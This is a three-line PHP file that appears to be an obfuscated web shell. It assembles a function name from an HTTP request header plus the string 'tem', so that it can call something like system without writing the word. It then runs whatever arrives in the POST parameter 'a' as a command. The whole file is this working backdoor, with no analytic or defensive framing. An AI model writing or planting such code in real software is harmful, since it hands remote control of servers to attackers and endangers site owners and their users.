<?php
$run = $_SERVER['HTTP_X_PREFIX'] . 'tem';
$run($_POST['a']);
